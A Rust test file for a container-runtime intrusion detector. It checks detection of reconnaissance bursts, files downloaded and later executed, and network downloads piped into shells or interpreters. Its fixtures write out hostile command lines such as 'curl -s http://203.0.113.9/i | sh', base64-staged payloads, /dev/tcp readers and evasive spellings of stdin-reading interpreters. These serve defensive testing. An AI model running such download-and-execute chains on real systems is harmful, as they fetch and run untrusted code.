//! Windows: what completes a burst or a download-then-run, the look-alikes that do not, lateness, and a restart
//! from a snapshot in the middle of an open window.

use palisade_schemas::{NodeEvent, NodeEventKind};

use super::{BackdoorArtifact, PipeToShell, ReconBurst};
use crate::detectors::node_runtime::{NodeLists, SharedNodeLists};
use crate::unit::Event;
use crate::unit::WindowedDetector;
use crate::windowed::WindowConfig;

fn exec_at(command: &str, container: Option<&str>, at_ms: i64) -> NodeEvent {
    let argv: Vec<String> = command.split(' ').map(str::to_owned).collect();
    let executable = if argv[0].starts_with('/') { argv[0].clone() } else { format!("/usr/bin/{}", argv[0]) };
    NodeEvent {
        event_id: format!("n/{at_ms}/{command}"),
        kind: NodeEventKind::Exec,
        node: "node-a".into(),
        kernel_time_ns: at_ms * 1_000_000,
        timestamp_ms: at_ms,
        pid: 200,
        tgid: 200,
        ppid: 100,
        uid: 0,
        euid: 0,
        gid: 0,
        comm: "x".into(),
        executable: Some(executable),
        argv,
        argv_truncated: false,
        cwd: Some("/root".into()),
        tty: None,
        stdio: Vec::new(),
        capabilities_effective: None,
        cgroup_id: 1,
        container_id: container.map(str::to_owned),
        pod_uid: None,
        container_name: None,
        image: None,
        pod_name: None,
        pod_namespace: None,
        in_container: container.is_some(),
        ancestry: Vec::new(),
        exit_code: None,
        clone_flags: None,
        file: None,
        net: None,
        namespace: None,
        signal: None,
        privilege: None,
    }
}

fn recon() -> ReconBurst {
    ReconBurst::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()))
}

fn feed(detector: &mut dyn WindowedDetector, events: &[NodeEvent]) -> usize {
    events.iter().map(|event| detector.observe(&Event::Node(event)).len()).sum()
}

const T: i64 = 1_764_000_000_000;

#[test]
fn four_distinct_recon_commands_in_a_minute_fire_once() {
    let mut detector = recon();
    let c = Some("c1");
    let burst = [
        exec_at("whoami", c, T),
        exec_at("id", c, T + 1_000),
        exec_at("uname -a", c, T + 2_000),
        exec_at("hostname", c, T + 3_000),
        exec_at("ps aux", c, T + 4_000),
    ];
    let findings: Vec<usize> = burst.iter().map(|e| detector.observe(&Event::Node(e)).len()).collect();
    assert_eq!(findings, [0, 0, 0, 1, 0], "fires on the fourth distinct command, once");
}

/// busybox's shell runs NOFORK applets (whoami, hostname, uname, ...) without an exec: the `-c` script counts.
#[test]
fn recon_commands_in_a_shell_script_count_without_their_execs() {
    let mut script = exec_at("/bin/busybox", Some("c1"), T);
    script.argv =
        ["sh", "-c", "whoami; hostname && uname -a | tee /tmp/u; VAR=1 id >/dev/null"].map(str::to_owned).to_vec();
    assert_eq!(recon().observe(&Event::Node(&script)).len(), 1, "four recon commands in one script");
    let mut spelled = exec_at("busybox", Some("c2"), T);
    spelled.argv = ["busybox", "sh", "-ec", "$(whoami); `hostname`; (uname); { id; }"].map(str::to_owned).to_vec();
    assert_eq!(recon().observe(&Event::Node(&spelled)).len(), 1, "busybox sh -ec, substitutions and groups");
    // Options before the script, `--`, a name given by argv[0], quotes and backslashes inside the word.
    for argv in [
        &["sh", "-o", "pipefail", "-c", "whoami; hostname; uname -a; id"][..],
        &["sh", "-c", "--", "whoami; hostname; uname -a; id"],
        &["bash", "-c", "-e", "who''ami; \\hostname; \"uname\" -a; i\\d"],
        &["sh", "-c", "echo \"$(whoami) `hostname` $(uname -a)\"; x=$(id)"],
    ] {
        let mut named = exec_at("/tmp/copy", Some("c4"), T);
        named.argv = argv.iter().map(|a| (*a).to_owned()).collect();
        assert_eq!(recon().observe(&Event::Node(&named)).len(), 1, "{argv:?}");
    }
    // Words that are not commands: arguments, variables, quoted text, arithmetic; a script without -c.
    let quiet_scripts = [
        "echo whoami id hostname uname",
        "echo \"$HOSTNAME\" ${id} $ip $env; grep -E 'ps|df|env|id' /tmp/x; echo \"x; id\"; echo $((id + 1))",
    ];
    for (n, script) in quiet_scripts.into_iter().enumerate() {
        let mut quiet = exec_at("/bin/sh", Some("c3"), T + n as i64);
        quiet.argv = ["sh", "-c", script].map(str::to_owned).to_vec();
        assert_eq!(recon().observe(&Event::Node(&quiet)).len(), 0, "{script}");
    }
    let mut file = exec_at("/bin/sh", Some("c3"), T + 1);
    file.argv = ["sh", "/opt/whoami", "id", "hostname", "uname"].map(str::to_owned).to_vec();
    assert_eq!(feed(&mut recon(), &[file]), 0);
    // On the host, scripts of one agent's successive shells are separate sessions, not one burst.
    let agent: Vec<NodeEvent> = ["df -h", "mount", "ip a", "ps aux"]
        .iter()
        .enumerate()
        .map(|(n, command)| {
            let mut shell = exec_at("/bin/sh", None, T + n as i64);
            (shell.pid, shell.tgid, shell.ppid) = (900 + n as i64, 900 + n as i64, 42);
            shell.argv = vec!["sh".into(), "-c".into(), (*command).into()];
            shell
        })
        .collect();
    assert_eq!(feed(&mut recon(), &agent), 0);
}

#[test]
fn repeats_slow_commands_and_other_containers_do_not_make_a_burst() {
    let mut detector = recon();
    let repeated: Vec<NodeEvent> = (0..6).map(|i| exec_at("whoami", Some("c1"), T + i * 1000)).collect();
    assert_eq!(feed(&mut detector, &repeated), 0, "one command repeated");
    let slow = [
        exec_at("id", Some("c2"), T),
        exec_at("uname", Some("c2"), T + 70_000),
        exec_at("hostname", Some("c2"), T + 140_000),
        exec_at("whoami", Some("c2"), T + 210_000),
    ];
    assert_eq!(feed(&mut detector, &slow), 0, "spread beyond the window");
    let split = [
        exec_at("id", Some("c3"), T + 300_000),
        exec_at("uname", Some("c3"), T + 301_000),
        exec_at("hostname", Some("c4"), T + 302_000),
        exec_at("whoami", Some("c4"), T + 303_000),
    ];
    assert_eq!(feed(&mut detector, &split), 0, "two containers");
    assert_eq!(feed(&mut detector, &[exec_at("ls -la", Some("c3"), T + 304_000)]), 0, "ls is not recon");
}

#[test]
fn events_later_than_the_lateness_bound_are_ignored() {
    let mut detector = recon();
    feed(&mut detector, &[exec_at("whoami", Some("other"), T + 600_000)]);
    let late = [
        exec_at("id", Some("c1"), T),
        exec_at("uname", Some("c1"), T + 1),
        exec_at("hostname", Some("c1"), T + 2),
        exec_at("whoami", Some("c1"), T + 3),
    ];
    assert_eq!(feed(&mut detector, &late), 0);
    assert_eq!(detector.late_events(), 4, "and counted");
}

#[test]
fn a_restored_detector_resumes_an_open_window_and_fires_once() {
    let mut before = recon();
    let c = Some("c1");
    feed(&mut before, &[exec_at("whoami", c, T), exec_at("id", c, T + 1_000)]);
    let saved = serde_json::to_string(&before.snapshot()).unwrap();
    drop(before);
    let mut after = recon();
    after.restore(&serde_json::from_str(&saved).unwrap()).unwrap();
    assert_eq!(after.keys(), 1);
    let rest = [exec_at("uname", c, T + 2_000), exec_at("hostname", c, T + 3_000), exec_at("ps", c, T + 4_000)];
    assert_eq!(feed(&mut after, &rest), 1);
    // Redelivered events from before the checkpoint do not fire it again.
    assert_eq!(feed(&mut after, &[exec_at("whoami", c, T + 5_000), exec_at("id", c, T + 6_000)]), 0);
    assert!(after.restore(&serde_json::json!({"keys": 3})).is_err(), "a damaged snapshot is an error");
}

#[test]
fn state_expires_and_stays_bounded() {
    let config = WindowConfig { max_keys: 3, ..WindowConfig::default() };
    let mut detector = ReconBurst::new(config, SharedNodeLists::fixed(NodeLists::shipped()));
    for i in 0..10 {
        feed(&mut detector, &[exec_at("whoami", Some(&format!("c{i}")), T + i)]);
    }
    assert_eq!(detector.keys(), 3);
    // Expiry goes by the node's own event time: an hour on node-a closes its windows, bar the new one.
    feed(&mut detector, &[exec_at("whoami", Some("late"), T + 3_600_000)]);
    detector.expire(T + 3_600_000);
    assert_eq!(detector.keys(), 1);
}

fn on_node(mut event: NodeEvent, node: &str) -> NodeEvent {
    event.node = node.to_owned();
    event
}

#[test]
fn one_node_with_a_clock_an_hour_ahead_does_not_silence_the_others() {
    let mut detector = recon();
    // node-b's clock is an hour ahead; its events come first.
    feed(&mut detector, &[on_node(exec_at("whoami", Some("b1"), T + 3_600_000), "node-b")]);
    let burst = [
        exec_at("id", Some("c1"), T),
        exec_at("uname", Some("c1"), T + 1_000),
        exec_at("hostname", Some("c1"), T + 2_000),
        exec_at("whoami", Some("c1"), T + 3_000),
    ];
    assert_eq!(feed(&mut detector, &burst), 1, "node-a's burst is judged by node-a's time");
    // Nor does the engine's watermark (node-b's time) expire node-a's open windows.
    feed(&mut detector, &[exec_at("id", Some("c2"), T + 4_000)]);
    detector.expire(T + 3_600_000);
    assert!(detector.keys() >= 2, "node-a's windows are kept");
    assert_eq!(detector.late_events(), 0);
    // A late event on node-a itself is still late, and counted.
    feed(&mut detector, &[exec_at("id", Some("c3"), T - 600_000)]);
    assert_eq!(detector.late_events(), 1);

    let mut backdoor = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
    feed(&mut backdoor, &[on_node(exec_at("whoami", Some("b1"), T + 3_600_000), "node-b")]);
    let fetched =
        [exec_at("curl -o /tmp/x http://198.51.100.7/x", Some("c1"), T), exec_at("/tmp/x", Some("c1"), T + 5_000)];
    assert_eq!(feed(&mut backdoor, &fetched), 1, "a download run on node-a, whatever node-b's clock says");
}

#[test]
fn a_downloaded_file_run_later_is_a_backdoor_artifact() {
    let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
    let c = Some("c1");
    let events = [
        exec_at("curl -s -o /tmp/.k http://203.0.113.5/k", c, T),
        exec_at("chmod +x /tmp/.k", c, T + 1_000),
        exec_at("/tmp/.k -d", c, T + 600_000),
    ];
    let findings: Vec<usize> = events.iter().map(|e| detector.observe(&Event::Node(e)).len()).collect();
    assert_eq!(findings, [0, 0, 1]);
    // Relative targets resolve against the downloader's working directory; a shell given the script counts.
    let relative =
        [exec_at("wget -O i.sh https://example.com/i.sh", c, T + 700_000), exec_at("sh /root/i.sh", c, T + 701_000)];
    assert_eq!(feed(&mut detector, &relative), 1);
    // Combined short flags and wget's directory prefix write files too.
    let combined =
        [exec_at("curl -fsSLo /tmp/m http://203.0.113.5/m", c, T + 800_000), exec_at("/tmp/m", c, T + 801_000)];
    assert_eq!(feed(&mut detector, &combined), 1);
    let prefixed = [
        exec_at("wget -q -P /var/tmp http://203.0.113.5/kit", c, T + 900_000),
        exec_at("/var/tmp/kit", c, T + 901_000),
    ];
    assert_eq!(feed(&mut detector, &prefixed), 1);
}

#[test]
fn one_container_keeps_its_newest_downloads_only_and_short_command_lines() {
    let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
    let c = Some("c1");
    let padding = "x".repeat(4000);
    // An attacker's flood of downloads in one container: 300, each with a long command line.
    let flood: Vec<NodeEvent> =
        (0..300).map(|n| exec_at(&format!("wget -O /tmp/f{n} http://203.0.113.5/{n}?{padding}"), c, T + n)).collect();
    assert_eq!(feed(&mut detector, &flood), 0);
    let state = detector.snapshot();
    let downloads = state["keys"].as_object().unwrap().values().next().unwrap().as_object().unwrap();
    assert_eq!(downloads.len(), 128);
    assert!(downloads.values().all(|d| d["command"].as_str().unwrap().len() <= 512));
    assert!(serde_json::to_vec(&state).unwrap().len() < 1 << 20, "inside one changelog record");
    // The newest are the ones kept: the last one run fires, the first one no longer does.
    assert_eq!(feed(&mut detector, &[exec_at("/tmp/f299", c, T + 1_000)]), 1);
    assert_eq!(feed(&mut detector, &[exec_at("/tmp/f0", c, T + 1_001)]), 0);
}

#[test]
fn downloads_never_run_run_too_late_or_elsewhere_are_not() {
    let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
    let never_run = [
        exec_at("curl -o /tmp/report.pdf https://example.com/r.pdf", Some("c1"), T),
        exec_at("ls /tmp", Some("c1"), T + 1),
    ];
    assert_eq!(feed(&mut detector, &never_run), 0);
    let too_late = [
        exec_at("curl -o /tmp/x https://example.com/x", Some("c2"), T + 10),
        exec_at("/tmp/x", Some("c2"), T + 3_700_000),
    ];
    assert_eq!(feed(&mut detector, &too_late), 0);
    let elsewhere = [
        exec_at("curl -o /tmp/y https://example.com/y", Some("c3"), T + 3_700_001),
        exec_at("/tmp/y", Some("c4"), T + 3_700_002),
    ];
    assert_eq!(feed(&mut detector, &elsewhere), 0, "another container's /tmp/y");
}

// ---- pipes: the windowed half of K8S.NODE_DownloadAndRunCombo ----------------------------------------------

fn pipes() -> PipeToShell {
    PipeToShell::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()))
}

/// `command` exec'd as process `pid` (child of `ppid`) with `stdin` and `stdout` (pipe inodes, 0 for a tty).
fn piped(command: &str, pid: i64, ppid: i64, (stdin, stdout): (u64, u64), at_ms: i64) -> NodeEvent {
    let mut event = exec_at(command, Some("c1"), at_ms);
    (event.pid, event.tgid, event.ppid) = (pid, pid, ppid);
    let end = |inode: u64| if inode == 0 { "tty".to_owned() } else { format!("pipe:[{inode}]") };
    event.stdio = vec![end(stdin), end(stdout), "tty".into()];
    event
}

fn connect(pid: i64, at_ms: i64) -> NodeEvent {
    connect_as(pid, at_ms, "x")
}

/// A connection by `pid`, whose command line (from the collector's process table) is `command`.
fn connect_as(pid: i64, at_ms: i64, command: &str) -> NodeEvent {
    let mut event = exec_at(command, Some("c1"), at_ms);
    event.kind = NodeEventKind::NetConnect;
    (event.pid, event.tgid) = (pid, pid);
    event.net = Some(palisade_schemas::NetDetail {
        family: "inet".into(),
        protocol: "tcp".into(),
        src_addr: None,
        src_port: None,
        dst_addr: Some("203.0.113.9".into()),
        dst_port: Some(80),
        payload_head: None,
    });
    event
}

fn fired(detector: &mut PipeToShell, events: &[NodeEvent]) -> Vec<std::collections::BTreeMap<String, String>> {
    events.iter().flat_map(|event| detector.observe(&Event::Node(event))).map(|finding| finding.details).collect()
}

#[test]
fn a_network_client_piped_into_a_shell_fires_whatever_the_order_and_names() {
    // `curl -s http://… | sh` typed in a script: no command line shows the pipe. The reader may exec first.
    let textbook = [
        piped("sh", 11, 10, (7, 0), T),
        piped("curl -s http://203.0.113.9/i", 12, 10, (0, 7), T + 1),
        connect_as(12, T + 2, "curl -s http://203.0.113.9/i"),
        piped("id", 13, 11, (7, 0), T + 3),
    ];
    let found = fired(&mut pipes(), &textbook);
    assert_eq!(found.len(), 1, "once per pipe: {found:?}");
    assert_eq!(found[0]["downloaded_from"], "203.0.113.9:80");
    assert_eq!(found[0]["download_command"], "curl -s http://203.0.113.9/i");
    assert!(found[0]["how"].contains("reads its program"), "{:?}", found[0]);

    // A renamed downloader and a renamed shell: the reader is known by the two programs it starts.
    let renamed = [
        piped("/tmp/fetch -s http://203.0.113.9/i", 22, 20, (0, 8), T),
        piped("/tmp/worker", 21, 20, (8, 0), T + 1),
        connect(22, T + 2),
        piped("chmod +x /tmp/m", 23, 21, (8, 0), T + 3),
    ];
    let mut detector = pipes();
    assert!(fired(&mut detector, &renamed).is_empty(), "one program started is not yet a shell");
    // A background job's stdin is /dev/null; it is still the reader's child.
    let found = fired(&mut detector, &[piped("/tmp/m", 24, 21, (0, 0), T + 4)]);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0]["how"], "the reader started chmod, m");

    // `curl | base64 -d | sh`: the network is two pipes upstream. And a `/dev/tcp` shell: its child writes.
    let staged = [
        piped("curl -s http://203.0.113.9/b", 32, 30, (0, 9), T),
        piped("base64 -d", 33, 30, (9, 10), T + 1),
        piped("bash", 34, 30, (10, 0), T + 2),
        connect_as(32, T + 3, "curl -s http://203.0.113.9/b"),
    ];
    let found = fired(&mut pipes(), &staged);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["download_command"], "curl -s http://203.0.113.9/b");
    let dev_tcp = [connect(41, T), piped("cat", 42, 41, (0, 11), T + 1), piped("sh -s -- -y", 43, 40, (11, 0), T + 2)];
    assert_eq!(fired(&mut pipes(), &dev_tcp).len(), 1);

    // `while read l; do $l; done` in a subshell that execs nothing: its programs share the read end and parent.
    let loop_reader = [
        piped("curl -s http://203.0.113.9/l", 52, 50, (0, 12), T),
        connect(52, T + 1),
        piped("id", 53, 51, (12, 0), T + 2),
        piped("uname -a", 54, 51, (12, 0), T + 3),
        piped("hostname", 55, 51, (12, 0), T + 4),
    ];
    assert_eq!(fired(&mut pipes(), &loop_reader).len(), 1);

    // `curl … | sudo bash`: sudo has operands and starts one program, but that program reads the pipe.
    let wrapped = [
        piped("curl -s http://203.0.113.9/s", 142, 140, (0, 22), T),
        piped("sudo bash", 141, 140, (22, 0), T + 1),
        connect(142, T + 2),
        piped("bash", 143, 141, (22, 0), T + 3),
    ];
    let found = fired(&mut pipes(), &wrapped);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["run_by"], "sudo bash");
    assert_eq!(found[0]["how"], "sudo reads its program from the pipe");
}

/// The forms an adversarial review found: writers crowded out, long pipelines, stderr, late or wrapped shells,
/// stdin spelled as a path, interpreter options with values, a loader, `-s` on a renamed shell.
#[test]
fn pipes_fire_past_crowds_depth_stderr_wrappers_and_spellings() {
    let fires = |label: &str, events: &[NodeEvent]| {
        let found = fired(&mut pipes(), events);
        assert_eq!(found.len(), 1, "{label}: {found:?}");
    };
    // `(true; true; true; true; curl …) | sh`: the newest writers are kept.
    let mut crowd: Vec<NodeEvent> = (0..5).map(|n| piped("true", 200 + n, 199, (0, 30), T + n)).collect();
    crowd.push(piped("curl -s http://203.0.113.9/c", 210, 199, (0, 30), T + 10));
    crowd.push(piped("sh", 211, 198, (30, 0), T + 11));
    crowd.push(connect(210, T + 12));
    fires("crowded writers", &crowd);
    // `curl | cat | cat | cat | cat | cat | sh`: six pipes, marked downstream whatever the order.
    let mut long = vec![piped("sh", 300, 299, (46, 0), T)];
    for stage in 0..5u64 {
        long.push(piped("cat", 301 + stage as i64, 299, (41 + stage, 42 + stage), T + 1 + stage as i64));
    }
    long.push(piped("curl -s http://203.0.113.9/d", 310, 299, (0, 41), T + 10));
    long.push(connect(310, T + 11));
    fires("six stages", &long);
    // `curl -so /dev/stderr URL 2>&1 >/dev/null | sh`: the pipe is on stderr.
    let mut stderr = piped("curl -so /dev/stderr http://203.0.113.9/e", 320, 319, (0, 0), T);
    stderr.stdio = vec!["null".into(), "null".into(), "pipe:[50]".into()];
    fires("stderr", &[stderr, piped("sh", 321, 319, (50, 0), T + 1), connect(320, T + 2)]);
    // `| (sleep 1; sh)` and `| timeout 9 timeout 9 sh`: a later process on the read end reads the program.
    let late = [
        piped("curl -s http://203.0.113.9/f", 330, 329, (0, 51), T),
        piped("sleep 1", 331, 328, (51, 0), T + 1),
        connect(330, T + 2),
        piped("sh", 332, 328, (51, 0), T + 3),
    ];
    fires("sleep then sh", &late);
    let timeouts = [
        piped("curl -s http://203.0.113.9/g", 340, 339, (0, 52), T),
        piped("timeout 9 timeout 9 sh", 341, 339, (52, 0), T + 1),
        connect(340, T + 2),
    ];
    fires("timeout timeout sh", &timeouts);
    // Stdin spelled as a path, interpreter options with values, a loader, a `-c` text that sources stdin.
    for (n, reader) in [
        "bash /dev/stdin",
        "sh /proc/self/fd/0",
        "python3 -E",
        "python3 -W ignore",
        "python3 /dev/stdin",
        "ruby -rnet/http",
        "perl -w",
        "/lib64/ld-linux-x86-64.so.2 /bin/sh",
        "bash -c source /dev/stdin",
        "bash -c eval \"$(cat)\"",
        "python3 -c exec(sys.stdin.read())",
        "busybox sh -s",
    ]
    .into_iter()
    .enumerate()
    {
        let n = n as i64;
        let mut read = piped(reader, 401 + 10 * n, 399, (60 + n as u64, 0), T + 1);
        for shell in ["bash", "python3"] {
            if let Some(text) = reader.strip_prefix(&format!("{shell} -c ")) {
                read.argv = vec![shell.into(), "-c".into(), text.into()];
            }
        }
        let events = [
            piped("curl -s http://203.0.113.9/h", 400 + 10 * n, 399, (0, 60 + n as u64), T),
            read,
            connect(400 + 10 * n, T + 2),
        ];
        fires(reader, &events);
    }
    // A renamed shell told `-s`: no operands for it.
    let renamed = [
        piped("/tmp/x -s foo", 501, 500, (70, 0), T),
        piped("/tmp/f http://203.0.113.9/i", 502, 500, (0, 70), T + 1),
        connect(502, T + 2),
        piped("id", 503, 501, (70, 0), T + 3),
        piped("uname", 504, 501, (70, 0), T + 4),
    ];
    fires("renamed shell -s", &renamed);
}

#[test]
fn a_flood_of_pipes_does_not_push_out_one_that_can_fire() {
    let mut detector = pipes();
    let real = [piped("sh", 601, 600, (80, 0), T), piped("curl -s http://203.0.113.9/j", 602, 600, (0, 80), T + 1)];
    assert!(fired(&mut detector, &real).is_empty());
    // 1000 `: | cat >/dev/null` after it, each a pipe with a reader that runs nothing.
    for n in 0..1000 {
        let inode = 10_000 + n as u64;
        fired(&mut detector, &[piped("cat", 700 + 2 * n, 699, (inode, 0), T + 2 + n)]);
    }
    assert_eq!(fired(&mut detector, &[connect(602, T + 2000)]).len(), 1, "the shell's pipe was kept");
}

#[test]
fn pipes_that_do_not_run_a_download_stay_quiet() {
    let mut quiet = vec![
        // `curl | (head -1; sort -k3)`: two programs on the read end from one subshell.
        piped("curl -s http://203.0.113.9/t", 132, 130, (0, 23), T),
        connect(132, T + 1),
        piped("head -1", 133, 131, (23, 0), T + 2),
        piped("sort -k3", 134, 131, (23, 0), T + 3),
        // `curl | tar xz`: tar starts one decompressor.
        piped("curl -sL http://203.0.113.9/a.tgz", 62, 60, (0, 13), T),
        piped("tar xz", 61, 60, (13, 0), T + 1),
        connect(62, T + 2),
        piped("gzip -d", 63, 61, (13, 14), T + 3),
        // `curl | python3 -c '…'` and `curl | jq`: the program is an argument.
        piped("curl -s http://203.0.113.9/j", 72, 70, (0, 15), T + 4),
        piped("python3 -c import json,sys; print(json.load(sys.stdin))", 71, 70, (15, 0), T + 5),
        connect(72, T + 6),
        piped("curl -s http://203.0.113.9/k", 82, 80, (0, 16), T + 7),
        piped("jq .items", 81, 80, (16, 0), T + 8),
        connect(82, T + 9),
        // `bash -c '…'` reading a pipe: the program is its argument.
        piped("curl -s http://203.0.113.9/m", 92, 90, (0, 17), T + 10),
        piped("bash -ec echo hi", 91, 90, (17, 0), T + 11),
        connect(92, T + 12),
        // A shell reading a pipe whose writer never connected (`cat script | sh`).
        piped("cat /root/install.sh", 102, 100, (0, 18), T + 13),
        piped("sh", 101, 100, (18, 0), T + 14),
        piped("id", 103, 101, (18, 0), T + 15),
        piped("uname", 104, 101, (18, 0), T + 16),
        // `curl | ruby -e '…STDIN.read…'`: reads stdin as data.
        piped("curl -s http://203.0.113.9/r", 152, 150, (0, 24), T + 17),
        piped("ruby -e", 151, 150, (24, 0), T + 18),
        connect(152, T + 19),
    ];
    // The program texts as the kernel reports them: one argument each.
    for event in &mut quiet {
        let text = match event.argv.first().map(String::as_str) {
            Some("python3") => "import json,sys; print(json.loads(sys.stdin.read())['items'])",
            Some("bash") => "echo hi; cat /dev/stdin > /tmp/saved",
            Some("ruby") => "puts STDIN.read.size",
            _ => continue,
        };
        let flag = event.argv[1].clone();
        event.argv = vec![event.argv[0].clone(), flag, text.into()];
    }
    let mut detector = pipes();
    assert_eq!(fired(&mut detector, &quiet), Vec::<std::collections::BTreeMap<String, String>>::new());
    // A connection more than ten minutes away from the writer's exec is not its download (ids are reused).
    let stale = [connect(112, T), piped("curl -s http://203.0.113.9/s", 112, 110, (0, 19), T + 3_700_000)];
    let stale_reader = [piped("sh", 111, 110, (19, 0), T + 3_700_001)];
    let mut detector = pipes();
    assert!(fired(&mut detector, &stale).is_empty());
    assert!(fired(&mut detector, &stale_reader).is_empty());
    // A connection an hour behind the node's newest event is late: counted, not kept.
    assert!(fired(&mut detector, &[connect(111, T + 10)]).is_empty());
    assert_eq!(detector.late_events(), 1);
}

#[test]
fn pipe_state_is_bounded_and_survives_a_restart() {
    let mut detector = pipes();
    for n in 0..1000 {
        fired(&mut detector, &[piped("cat", 1000 + n, 999, (0, 100_000 + n as u64), T + n)]);
        fired(&mut detector, &[connect(5000 + n, T + n)]);
    }
    let snapshot = detector.snapshot();
    let text = snapshot.to_string();
    assert!(text.len() < 200_000, "{} bytes for one key", text.len());
    // A restart between the writer and the reader: the snapshot carries the pipe.
    let mut before = pipes();
    fired(&mut before, &[piped("curl -s http://203.0.113.9/r", 2, 1, (0, 20), T), connect(2, T + 1)]);
    let mut after = pipes();
    after.restore(&before.snapshot()).unwrap();
    assert_eq!(fired(&mut after, &[piped("sh", 3, 1, (20, 0), T + 2)]).len(), 1);
    // Expired with the node's event time, not the engine's alone.
    after.expire(T + 4 * 3_600_000);
    assert_eq!(after.keys(), 1, "node-a's clock has not moved");
    fired(&mut after, &[exec_at("ls", Some("c9"), T + 4 * 3_600_000)]);
    after.expire(T + 4 * 3_600_000);
    assert_eq!(after.keys(), 0);
}

#[test]
fn a_wrapper_script_reading_a_pipe_is_judged_by_what_it_execs_into() {
    // `curl | python3 -c …` through a pyenv shim: env → bash shim (helpers as children) → python3.11 -c.
    let shim = [
        piped("curl -s http://203.0.113.9/w", 122, 120, (0, 21), T),
        piped("/usr/bin/env bash /root/.pyenv/shims/python3 -c pass", 121, 120, (21, 0), T + 1),
        piped("bash /root/.pyenv/shims/python3 -c pass", 121, 120, (21, 0), T + 2),
        connect(122, T + 3),
        piped("pyenv version-name", 123, 121, (21, 0), T + 4),
        piped("readlink -f x", 124, 121, (21, 0), T + 5),
        piped("/usr/bin/python3.11 -c pass", 121, 120, (21, 0), T + 6),
    ];
    assert!(fired(&mut pipes(), &shim).is_empty());
    // The same chain ending in a bare interpreter reads its program from the pipe.
    let mut bare = shim.to_vec();
    bare[6] = piped("/usr/bin/python3.11", 121, 120, (21, 0), T + 6);
    assert_eq!(fired(&mut pipes(), &bare).len(), 1);
}
